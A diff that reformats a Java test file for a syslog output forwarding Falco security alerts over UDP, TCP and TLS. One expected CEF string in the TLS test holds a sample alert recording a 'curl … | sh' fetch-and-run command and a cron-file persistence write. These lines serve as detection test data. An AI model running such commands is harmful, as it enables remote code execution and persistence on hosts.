@@ -68,8 +68,8 @@ class SyslogOutputTest {
     }
 
     static SyslogConfig config(int port, String protocol, String format, String facility, String sdId, TlsConfig tls) {
-        return new SyslogConfig("127.0.0.1", port, protocol, format, facility, "falco", null, sdId,
-                Duration.ofSeconds(5), tls);
+        return new SyslogConfig(
+                "127.0.0.1", port, protocol, format, facility, "falco", null, sdId, Duration.ofSeconds(5), tls);
     }
 
     Output open(SyslogConfig config) {
@@ -80,8 +80,15 @@ class SyslogOutputTest {
 
     // --- an RFC 5424 parser, written from the ABNF of section 6
 
-    record Message(int pri, String timestamp, String hostname, String appName, String procId, String msgId,
-            Map<String, Map<String, String>> sd, byte[] msg) {
+    record Message(
+            int pri,
+            String timestamp,
+            String hostname,
+            String appName,
+            String procId,
+            String msgId,
+            Map<String, Map<String, String>> sd,
+            byte[] msg) {
         int facility() {
             return pri / 8;
         }
@@ -95,9 +102,10 @@ class SyslogOutputTest {
         }
     }
 
-    static final Pattern HEADER = Pattern.compile(
-            "<(\\d{1,3})>1 (\\S{1,64}) ([!-~]{1,255}) ([!-~]{1,48}) ([!-~]{1,128}) ([!-~]{1,32}) ");
-    static final Pattern TIMESTAMP = Pattern.compile("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d(\\.\\d{1,6})?(Z|[+-]\\d\\d:\\d\\d)");
+    static final Pattern HEADER =
+            Pattern.compile("<(\\d{1,3})>1 (\\S{1,64}) ([!-~]{1,255}) ([!-~]{1,48}) ([!-~]{1,128}) ([!-~]{1,32}) ");
+    static final Pattern TIMESTAMP =
+            Pattern.compile("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d(\\.\\d{1,6})?(Z|[+-]\\d\\d:\\d\\d)");
 
     static Message parse(byte[] bytes) {
         String s = new String(bytes, StandardCharsets.UTF_8);
@@ -146,8 +154,8 @@ class SyslogOutputTest {
             int offset = s.substring(0, i + 1).getBytes(StandardCharsets.UTF_8).length;
             msg = Arrays.copyOfRange(bytes, offset, bytes.length);
         }
-        return new Message(Integer.parseInt(m.group(1)), m.group(2), m.group(3), m.group(4), m.group(5), m.group(6),
-                sd, msg);
+        return new Message(
+                Integer.parseInt(m.group(1)), m.group(2), m.group(3), m.group(4), m.group(5), m.group(6), sd, msg);
     }
 
     /** Reads one octet-counted frame: MSG-LEN SP SYSLOG-MSG (RFC 6587 3.4.1, RFC 5425 4.3). */
@@ -159,7 +167,9 @@ class SyslogOutputTest {
                 return null;
             }
             assertThat((char) c).as("MSG-LEN digit").isBetween('0', '9');
-            assertThat(digits == 0 && c == '0').as("MSG-LEN has no leading zero").isFalse();
+            assertThat(digits == 0 && c == '0')
+                    .as("MSG-LEN has no leading zero")
+                    .isFalse();
             len = len * 10 + (c - '0');
             digits++;
         }
@@ -176,6 +186,7 @@ class SyslogOutputTest {
         final List<String> peers = java.util.Collections.synchronizedList(new ArrayList<>());
         /** When > 0, each connection is closed by the server after this many frames. */
         volatile int framesPerConnection;
+
         final BlockingQueue<Integer> closedByServer = new LinkedBlockingQueue<>();
 
         StreamServer(ServerSocket server) {
@@ -197,7 +208,10 @@ class SyslogOutputTest {
             try (s) {
                 if (s instanceof javax.net.ssl.SSLSocket tls) {
                     tls.startHandshake();
-                    peers.add(tls.getSession().getPeerPrincipal() == null ? "" : tls.getSession().getPeerPrincipal().getName());
+                    peers.add(
+                            tls.getSession().getPeerPrincipal() == null
+                                    ? ""
+                                    : tls.getSession().getPeerPrincipal().getName());
                 }
                 InputStream in = s.getInputStream();
                 int count = 0;
@@ -239,8 +253,8 @@ class SyslogOutputTest {
 
     StreamServer tlsServer(boolean needClientAuth) throws IOException {
         var ssl = new TlsConfig(cert("ca.crt"), cert("server.crt"), cert("server.key")).sslContext();
-        SSLServerSocket socket = (SSLServerSocket) ssl.getServerSocketFactory()
-                .createServerSocket(0, 16, InetAddress.getLoopbackAddress());
+        SSLServerSocket socket = (SSLServerSocket)
+                ssl.getServerSocketFactory().createServerSocket(0, 16, InetAddress.getLoopbackAddress());
         socket.setNeedClientAuth(needClientAuth);
         StreamServer s = new StreamServer(socket);
         resources.add(s);
@@ -259,7 +273,8 @@ class SyslogOutputTest {
 
     static String timestampOf(Alert alert) {
         return OffsetDateTime.ofInstant(alert.time().truncatedTo(ChronoUnit.MICROS), java.time.ZoneOffset.UTC)
-                .toString().replace("+00:00", "Z");
+                .toString()
+                .replace("+00:00", "Z");
     }
 
     // --- UDP
@@ -295,12 +310,36 @@ class SyslogOutputTest {
         SyslogConfig c = config(514, "udp", "json", "daemon", null, TlsConfig.NONE);
         SyslogOutput out = (SyslogOutput) open(c);
         Alert base = sample(0);
-        Map<Priority, Integer> expected = new TreeMap<>(Map.of(Priority.EMERGENCY, 24, Priority.ALERT, 25,
-                Priority.CRITICAL, 26, Priority.ERROR, 27, Priority.WARNING, 28, Priority.NOTICE, 29,
-                Priority.INFORMATIONAL, 30, Priority.DEBUG, 31));
+        Map<Priority, Integer> expected = new TreeMap<>(Map.of(
+                Priority.EMERGENCY,
+                24,
+                Priority.ALERT,
+                25,
+                Priority.CRITICAL,
+                26,
+                Priority.ERROR,
+                27,
+                Priority.WARNING,
+                28,
+                Priority.NOTICE,
+                29,
+                Priority.INFORMATIONAL,
+                30,
+                Priority.DEBUG,
+                31));
         expected.forEach((priority, pri) -> {
-            Alert a = new Alert(base.uuid(), base.time(), base.rule(), priority, base.source(), base.output(),
-                    base.outputFields(), base.tags(), base.hostname(), null, null);
+            Alert a = new Alert(
+                    base.uuid(),
+                    base.time(),
+                    base.rule(),
+                    priority,
+                    base.source(),
+                    base.output(),
+                    base.outputFields(),
+                    base.tags(),
+                    base.hostname(),
+                    null,
+                    null);
             assertThat(parse(out.message(a)).pri()).as("%s", priority).isEqualTo(pri);
         });
     }
@@ -319,8 +358,11 @@ class SyslogOutputTest {
             assertThat(m.facility()).isEqualTo(23);
             assertThat(m.severity()).isEqualTo(alert.priority().ordinal());
             assertThat(m.hostname()).isEqualTo(alert.hostname());
-            assertThat(m.msgId()).hasSizeLessThanOrEqualTo(32)
-                    .isEqualTo(alert.rule().replace(' ', '_').substring(0, Math.min(32, alert.rule().length())));
+            assertThat(m.msgId())
+                    .hasSizeLessThanOrEqualTo(32)
+                    .isEqualTo(alert.rule()
+                            .replace(' ', '_')
+                            .substring(0, Math.min(32, alert.rule().length())));
             Map<String, String> expected = new LinkedHashMap<>();
             expected.put("uuid", alert.uuid());
             expected.put("rule", alert.rule());
@@ -338,9 +380,18 @@ class SyslogOutputTest {
     void structuredDataAndJsonAreEscapedAndStayAscii() throws Exception {
         StreamServer server = tcpServer();
         Output out = open(config(server.port(), "tcp", "json", "local0", "falco@32473", TlsConfig.NONE));
-        Alert alert = new Alert("0b6c1a4e-3f57-4c1e-9d0a-1f2e3d4c5b6a", Instant.parse("2025-11-20T09:14:02.118734512Z"),
-                "Odd \"rule\" [x] \\ ünïcode", Priority.ERROR, "syscall", "café ] \" \\ done",
-                new TreeMap<>(Map.of("fd.name", "/tmp/ñ")), List.of("a]b"), "", null, null);
+        Alert alert = new Alert(
+                "0b6c1a4e-3f57-4c1e-9d0a-1f2e3d4c5b6a",
+                Instant.parse("2025-11-20T09:14:02.118734512Z"),
+                "Odd \"rule\" [x] \\ ünïcode",
+                Priority.ERROR,
+                "syscall",
+                "café ] \" \\ done",
+                new TreeMap<>(Map.of("fd.name", "/tmp/ñ")),
+                List.of("a]b"),
+                "",
+                null,
+                null);
         out.send(alert);
 
         byte[] raw = server.frames.poll(WAIT.toMillis(), TimeUnit.MILLISECONDS);
@@ -349,15 +400,18 @@ class SyslogOutputTest {
         assertThat(m.hostname()).isEqualTo("-"); // no hostname: NILVALUE
         assertThat(m.timestamp()).isEqualTo("2025-11-20T09:14:02.118734Z");
         assertThat(m.msgId()).isEqualTo("Odd_\"rule\"_[x]_\\__n_code"); // one '_' per character outside PRINTUSASCII
-        assertThat(m.sd().get("falco@32473")).containsEntry("rule", "Odd \"rule\" [x] \\ ünïcode")
-                .containsEntry("tags", "a]b").doesNotContainKey("hostname");
+        assertThat(m.sd().get("falco@32473"))
+                .containsEntry("rule", "Odd \"rule\" [x] \\ ünïcode")
+                .containsEntry("tags", "a]b")
+                .doesNotContainKey("hostname");
         // MSG is plain ASCII (no BOM needed); JSON's \\u escapes give the exact text back.
         byte[] msg = m.msg();
         for (byte b : msg) {
             assertThat(b & 0xff).isLessThan(128);
         }
         assertThat(JSON.readTree(msg).get("output").stringValue()).isEqualTo("café ] \" \\ done");
-        assertThat(JSON.readTree(msg).get("output_fields").get("fd.name").stringValue()).isEqualTo("/tmp/ñ");
+        assertThat(JSON.readTree(msg).get("output_fields").get("fd.name").stringValue())
+                .isEqualTo("/tmp/ñ");
     }
 
     @Test
@@ -371,7 +425,8 @@ class SyslogOutputTest {
         Alert first = sample(0);
         out.send(first);
         assertThat(JSON.readTree(server.next().msg()).get("uuid").stringValue()).isEqualTo(first.uuid());
-        assertThat(server.closedByServer.poll(WAIT.toMillis(), TimeUnit.MILLISECONDS)).isEqualTo(1);
+        assertThat(server.closedByServer.poll(WAIT.toMillis(), TimeUnit.MILLISECONDS))
+                .isEqualTo(1);
 
         Alert second = sample(1);
         out.send(second);
@@ -384,11 +439,10 @@ class SyslogOutputTest {
         int closedPort = Loopback.closedPort();
         Output out = open(config(closedPort, "tcp", "json", "local0", null, TlsConfig.NONE));
 
-        assertThatThrownBy(() -> out.send(sample(0)))
-                .isInstanceOfSatisfying(DeliveryException.class, e -> {
-                    assertThat(e.retryable()).isTrue();
-                    assertThat(e.getMessage()).contains("syslog tcp://127.0.0.1:" + closedPort);
-                });
+        assertThatThrownBy(() -> out.send(sample(0))).isInstanceOfSatisfying(DeliveryException.class, e -> {
+            assertThat(e.retryable()).isTrue();
+            assertThat(e.getMessage()).contains("syslog tcp://127.0.0.1:" + closedPort);
+        });
     }
 
     @Test
@@ -423,12 +477,31 @@ class SyslogOutputTest {
                     // closed by the test
                 }
             });
-            SyslogConfig c = new SyslogConfig("127.0.0.1", stuck.getLocalPort(), "tcp", "json", "local0", "falco", null,
-                    null, Duration.ofMillis(500), TlsConfig.NONE);
+            SyslogConfig c = new SyslogConfig(
+                    "127.0.0.1",
+                    stuck.getLocalPort(),
+                    "tcp",
+                    "json",
+                    "local0",
+                    "falco",
+                    null,
+                    null,
+                    Duration.ofMillis(500),
+                    TlsConfig.NONE);
             Output out = open(c);
             Alert base = sample(0);
-            Alert big = new Alert(base.uuid(), base.time(), base.rule(), base.priority(), base.source(),
-                    "x".repeat(1 << 20), base.outputFields(), base.tags(), base.hostname(), null, null);
+            Alert big = new Alert(
+                    base.uuid(),
+                    base.time(),
+                    base.rule(),
+                    base.priority(),
+                    base.source(),
+                    "x".repeat(1 << 20),
+                    base.outputFields(),
+                    base.tags(),
+                    base.hostname(),
+                    null,
+                    null);
             long start = System.nanoTime();
             DeliveryException failure = null;
             for (int i = 0; i < 256 && failure == null; i++) {
@@ -453,7 +526,8 @@ class SyslogOutputTest {
     @BeforeAll
     static void makeCertificates() throws Exception {
         TestCertificates.make(certs);
-        TestCertificates.issue(certs, "other", "/CN=elsewhere", "subjectAltName=DNS:elsewhere.example\nextendedKeyUsage=serverAuth\n");
+        TestCertificates.issue(
+                certs, "other", "/CN=elsewhere", "subjectAltName=DNS:elsewhere.example\nextendedKeyUsage=serverAuth\n");
     }
 
     static String cert(String file) {
@@ -463,7 +537,12 @@ class SyslogOutputTest {
     @Test
     void tlsSendsCefFramedByOctetCountingWithAClientCertificate() throws Exception {
         StreamServer server = tlsServer(true);
-        Output out = open(config(server.port(), "tls", "cef", "local4", null,
+        Output out = open(config(
+                server.port(),
+                "tls",
+                "cef",
+                "local4",
+                null,
                 new TlsConfig(cert("ca.crt"), cert("client.crt"), cert("client.key"))));
         Alert alert = sample(2);
         out.send(alert);
@@ -473,31 +552,34 @@ class SyslogOutputTest {
         assertThat(m.severity()).isEqualTo(3); // Error
         assertThat(m.hostname()).isEqualTo("bastion-01");
         assertThat(m.msgId()).isEqualTo("Write_below_etc");
-        assertThat(m.text()).isEqualTo("CEF:0|Falcosecurity|Falco|1.0|Falco Event|Write below etc|7|uuid="
-                + alert.uuid() + " start=1763632931734"
-                + " msg=" + alert.output().replace("=", "\\=")
-                + " source=syscall hostname=bastion-01 outputfields=container.id:host container.image.repository:"
-                + " container.image.tag: container.name:host evt.time.iso8601:1763632931734400921 evt.type:openat"
-                + " fd.name:/etc/cron.d/sysupdate k8s.ns.name:<NA> k8s.pod.name:<NA> proc.aname[2]:sh"
-                + " proc.aname[3]:sshd proc.aname[4]:sshd"
-                + " proc.cmdline:python3 -c open('/etc/cron.d/sysupdate','w').write(payload)"
-                + " proc.exepath:/usr/bin/python3.11 proc.name:python3"
-                + " proc.pcmdline:sh -c curl -fsSL http://198.51.100.7/i.sh | sh proc.pname:sh proc.tty:34817"
-                + " user.loginuid:1001 user.name:root user.uid:0"
-                + " tags=T1098,container,filesystem,host,maturity_sandbox,mitre_persistence");
+        assertThat(m.text())
+                .isEqualTo("CEF:0|Falcosecurity|Falco|1.0|Falco Event|Write below etc|7|uuid="
+                        + alert.uuid() + " start=1763632931734"
+                        + " msg=" + alert.output().replace("=", "\\=")
+                        + " source=syscall hostname=bastion-01 outputfields=container.id:host container.image.repository:"
+                        + " container.image.tag: container.name:host evt.time.iso8601:1763632931734400921 evt.type:openat"
+                        + " fd.name:/etc/cron.d/sysupdate k8s.ns.name:<NA> k8s.pod.name:<NA> proc.aname[2]:sh"
+                        + " proc.aname[3]:sshd proc.aname[4]:sshd"
+                        + " proc.cmdline:python3 -c open('/etc/cron.d/sysupdate','w').write(payload)"
+                        + " proc.exepath:/usr/bin/python3.11 proc.name:python3"
+                        + " proc.pcmdline:sh -c curl -fsSL http://198.51.100.7/i.sh | sh proc.pname:sh proc.tty:34817"
+                        + " user.loginuid:1001 user.name:root user.uid:0"
+                        + " tags=T1098,container,filesystem,host,maturity_sandbox,mitre_persistence");
         assertThat(server.peers).containsExactly("CN=peregrine-sidekick");
     }
 
     @Test
     void tlsToAServerWhoseCertificateDoesNotNameTheHostIsRetryable() throws Exception {
         var ssl = new TlsConfig(cert("ca.crt"), cert("other.crt"), cert("other.key")).sslContext();
-        StreamServer server = new StreamServer(ssl.getServerSocketFactory().createServerSocket(0, 16,
-                InetAddress.getLoopbackAddress()));
+        StreamServer server = new StreamServer(
+                ssl.getServerSocketFactory().createServerSocket(0, 16, InetAddress.getLoopbackAddress()));
         resources.add(server);
-        Output out = open(config(server.port(), "tls", "json", "local0", null, new TlsConfig(cert("ca.crt"), null, null)));
+        Output out =
+                open(config(server.port(), "tls", "json", "local0", null, new TlsConfig(cert("ca.crt"), null, null)));
 
         assertThatThrownBy(() -> out.send(sample(0)))
-                .isInstanceOfSatisfying(DeliveryException.class, e -> assertThat(e.retryable()).isTrue());
+                .isInstanceOfSatisfying(
+                        DeliveryException.class, e -> assertThat(e.retryable()).isTrue());
         assertThat(server.frames).isEmpty();
     }
 
@@ -506,30 +588,42 @@ class SyslogOutputTest {
         StreamServer server = tlsServer(false);
         Output out = open(config(server.port(), "tls", "json", "local0", null, TlsConfig.NONE)); // the JVM's CAs
 
-        assertThatThrownBy(() -> out.send(sample(0)))
-                .isInstanceOfSatisfying(DeliveryException.class, e -> {
-                    assertThat(e.retryable()).isTrue();
-                    assertThat(e.getMessage()).contains("SSLHandshakeException");
-                });
+        assertThatThrownBy(() -> out.send(sample(0))).isInstanceOfSatisfying(DeliveryException.class, e -> {
+            assertThat(e.retryable()).isTrue();
+            assertThat(e.getMessage()).contains("SSLHandshakeException");
+        });
         assertThat(server.frames).isEmpty();
     }
 
     // --- configuration
 
     @ParameterizedTest
-    @CsvSource(delimiter = '|', value = {
-            "udp | local8 | falco | | | peregrine.outputs.siem.facility: unknown facility 'local8'",
-            "udp | 24 | falco | | | peregrine.outputs.siem.facility: unknown facility '24'",
-            "udp | local0 | fal co | | | peregrine.outputs.siem.app-name: must be 1 to 48 printable ASCII",
-            "udp | local0 | falco | falco | | peregrine.outputs.siem.structured-data-id: not an RFC 5424 SD-ID",
-            "udp | local0 | falco | fal=co@1 | | peregrine.outputs.siem.structured-data-id: not an RFC 5424 SD-ID",
-            "udp | local0 | falco | | ca | peregrine.outputs.siem.tls: TLS files are only used with protocol: tls"})
-    void unusableSettingsStopStartupNamingTheKey(String protocol, String facility, String appName, String sdId,
-            String ca, String expected) {
-        SyslogConfig c = new SyslogConfig("127.0.0.1", 514, protocol, "json", facility, appName, null, sdId,
-                Duration.ofSeconds(5), ca == null ? TlsConfig.NONE : new TlsConfig(cert("ca.crt"), null, null));
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "udp | local8 | falco | | | peregrine.outputs.siem.facility: unknown facility 'local8'",
+                "udp | 24 | falco | | | peregrine.outputs.siem.facility: unknown facility '24'",
+                "udp | local0 | fal co | | | peregrine.outputs.siem.app-name: must be 1 to 48 printable ASCII",
+                "udp | local0 | falco | falco | | peregrine.outputs.siem.structured-data-id: not an RFC 5424 SD-ID",
+                "udp | local0 | falco | fal=co@1 | | peregrine.outputs.siem.structured-data-id: not an RFC 5424 SD-ID",
+                "udp | local0 | falco | | ca | peregrine.outputs.siem.tls: TLS files are only used with protocol: tls"
+            })
+    void unusableSettingsStopStartupNamingTheKey(
+            String protocol, String facility, String appName, String sdId, String ca, String expected) {
+        SyslogConfig c = new SyslogConfig(
+                "127.0.0.1",
+                514,
+                protocol,
+                "json",
+                facility,
+                appName,
+                null,
+                sdId,
+                Duration.ofSeconds(5),
+                ca == null ? TlsConfig.NONE : new TlsConfig(cert("ca.crt"), null, null));
         assertThatThrownBy(() -> c.create(CONTEXT))
-                .isInstanceOfSatisfying(ConfigException.class,
+                .isInstanceOfSatisfying(
+                        ConfigException.class,
                         e -> assertThat(e.problems()).singleElement().asString().startsWith(expected));
     }
 
@@ -543,8 +637,18 @@ class SyslogOutputTest {
     @Test
     void defaultPortsFollowTheProtocol() throws Exception {
         // 514 for udp and tcp, 6514 for tls (RFC 5425): visible in the failure message of a send.
-        try (Output tls = new SyslogConfig("127.0.0.1", null, "TLS", "json", "local0", "falco", null, null,
-                Duration.ofSeconds(2), TlsConfig.NONE).create(CONTEXT)) {
+        try (Output tls = new SyslogConfig(
+                        "127.0.0.1",
+                        null,
+                        "TLS",
+                        "json",
+                        "local0",
+                        "falco",
+                        null,
+                        null,
+                        Duration.ofSeconds(2),
+                        TlsConfig.NONE)
+                .create(CONTEXT)) {
             assertThatThrownBy(() -> tls.send(sample(0))).hasMessageContaining("syslog tls://127.0.0.1:6514");
         }
     }
